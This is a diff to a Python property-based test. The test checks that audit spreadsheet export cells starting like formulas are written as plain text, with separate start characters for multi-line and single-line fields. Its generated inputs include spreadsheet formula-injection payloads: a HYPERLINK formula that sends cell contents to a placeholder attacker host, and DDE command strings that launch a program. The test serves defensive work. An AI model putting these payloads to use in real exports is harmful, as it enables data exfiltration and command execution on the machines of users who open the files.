@@ -17,15 +17,22 @@ from gateway.storage import open_application
 from projections.audit.spreadsheet import FORMULA_STARTS
 from tests.gateway.test_audit_cli import NEW, OFFICER, lianjian, store  # noqa: F401 - the store fixture
 
-dangerous = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS), st.one_of(
-    st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0",
-                     "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "=1+1", "\t=1"]),
-    st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=40)))
+def dangerous(starts: tuple[str, ...]) -> st.SearchStrategy[str]:
+    """Text that begins like a formula, with one of ``starts``: the domain refuses CR in every field and a
+    tab outside multi-line free text (a reason may begin with a tab, a legal basis may not)."""
+    return st.builds(lambda start, rest: start + rest, st.sampled_from(starts), st.one_of(
+        st.sampled_from(['HYPERLINK("http://evil.example/?"&A1,"点击")', "cmd|' /C calc'!A0",
+                         "SUM(1+1)*cmd|' /C calc'!A0", "1+1", "=1+1"]),
+        st.text(alphabet=st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), min_size=1, max_size=40)))
+
+
+MULTI_LINE_STARTS = tuple(s for s in FORMULA_STARTS if s != "\r")
+SINGLE_LINE_STARTS = tuple(s for s in MULTI_LINE_STARTS if s != "\t")
 
 
 @settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture,
                                                                   HealthCheck.too_slow])
-@given(reason=dangerous, basis=dangerous)
+@given(reason=dangerous(MULTI_LINE_STARTS), basis=dangerous(SINGLE_LINE_STARTS))
 def test_cells_that_would_start_a_formula_are_written_as_text(store, tmp_path, inputs_tried,  # noqa: F811
                                                               reason, basis):
     inputs_tried["formula-like dossier cells"] += 1
